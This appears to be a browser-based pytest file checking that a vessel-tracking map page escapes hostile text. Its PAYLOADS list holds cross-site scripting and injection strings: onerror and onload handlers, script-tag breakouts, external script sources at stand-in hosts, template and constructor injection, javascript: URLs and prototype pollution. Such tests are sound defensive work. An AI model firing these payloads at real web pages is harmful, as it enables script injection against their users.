"""Whatever a transmitter, a feeder or a register sends is text on the page, and never anything else."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import numpy as np
import pytest
from map_making import NOON_S, collection, flag

from feeds.reports import Domain, entities, subject
from fusion.tracks import Tracks
from maps.page import render_map
from maps.plain import plain

PAYLOADS = [
    '"><IMG SRC=X ONERROR=window.__pwn=1>',
    "<IMG SRC=//E.GG/1>",
    "<SCRIPT SRC=//A.B/>",
    '"><SVG/ONLOAD=window.__pwn=1>',
    "</SCRIPT><SCRIPT>window.__pwn=1</SCRIPT>",
    "</script><img src=x onerror=window.__pwn=1>",
    "<!--<script>window.__pwn=1",
    "-->",
    "${window.__pwn=1}",
    "`+(window.__pwn=1)+`",
    "'+(window.__pwn=1)+'",
    "</title></style><img src=x onerror=window.__pwn=1>",
    "&lt;IMG SRC=X ONERROR=window.__pwn=1&gt;",
    "&#60;IMG SRC=X ONERROR=window.__pwn=1&#62;",
    "{{constructor.constructor('window.__pwn=1')()}}",
    "a\u2028window.__pwn=1\u2029b",
    "javascript:window.__pwn=1",
    "$title $policy $scripts",
    "__proto__",
    "\u202egnisrever\u202c \u200bname",
    "\ud800 lone",
]
SUBJECTS = [int(entity) for entity in entities(Domain.AIS, 232_000_000 + np.arange(len(PAYLOADS)))]


def hostile_page() -> str:
    """Every text that comes from outside is a payload: one vessel and one flag for each."""
    n = len(PAYLOADS)
    tracks = Tracks.of(
        n,
        time_s=np.full(n, NOON_S),
        track=np.array(SUBJECTS, np.uint64),
        entity=np.array(SUBJECTS, np.uint64),
        lat_deg=np.full(n, 50.7),
        lon_deg=np.linspace(-1.5, -1.0, n),
    )
    names = {
        entity: {"name": text, "callsign": text, "destination": text, "type": text, text: text}
        for entity, text in zip(SUBJECTS, PAYLOADS, strict=True)
    }
    features = [
        flag(
            number,
            subjects=[subject(entity), text],
            **dict.fromkeys(("id", "kind", "state", "summary", "version"), text),
            reasons=[{"factor": text, "value": text, "unit": text, "threshold": text}, None, text],
            pattern={"name": text, "version": text, "parameters": {text: text}},
            area={"type": text, "coordinates": text},
            force=[text],
        )
        for number, (entity, text) in enumerate(zip(SUBJECTS, PAYLOADS, strict=True))
    ]
    return render_map(tracks, collection(*features), names, "".join(PAYLOADS), PAYLOADS)


@pytest.mark.browser
def test_no_payload_runs_calls_out_or_changes_how_it_reads(opened: Callable[..., Any]) -> None:
    chart = opened(hostile_page())
    page = chart.page

    for number, payload in enumerate(PAYLOADS):
        page.locator(f'tr[data-flag="{number}"] button').click()
        shown = page.locator("#details").text_content()
        # Kind, summary, two subjects, factor, pattern, ...: once for each place that names it.
        assert shown.count(plain(payload)[1:]) >= 8, payload
    page.locator("#tab-targets").click()
    for number, payload in enumerate(PAYLOADS):
        page.locator(f'tr[data-track="{number}"] button').click()
        assert page.locator("#details h2").text_content() == plain(payload)
    page.locator("#legend summary").click()
    page.mouse.move(300, 300)
    page.fill("#search", PAYLOADS[0])
    page.press("#search", "Enter")
    page.wait_for_timeout(300)

    assert page.evaluate("window.__pwn") is None
    assert page.evaluate("Object.prototype.name") is None
    assert page.title().split() == plain("".join(PAYLOADS)).split()
    assert page.locator("#title").text_content() == plain("".join(PAYLOADS))
    assert (chart.requests, chart.complaints) == ([], [])


def test_data_holds_no_character_that_could_end_it() -> None:
    html = hostile_page()
    blocks = html.split('<script type="application/json"')[1:]

    assert len(blocks) >= 4
    for block in blocks:
        body = block.split(">", 1)[1].split("</script>")[0]
        assert not set(body) & set("<>&")
    # Nothing but the page's own scripts and data is an element of the page.
    assert html.lower().count("<script") == html.lower().count("</script>")
    assert html.count("window.__pwn=1</SCRIPT>") == 0
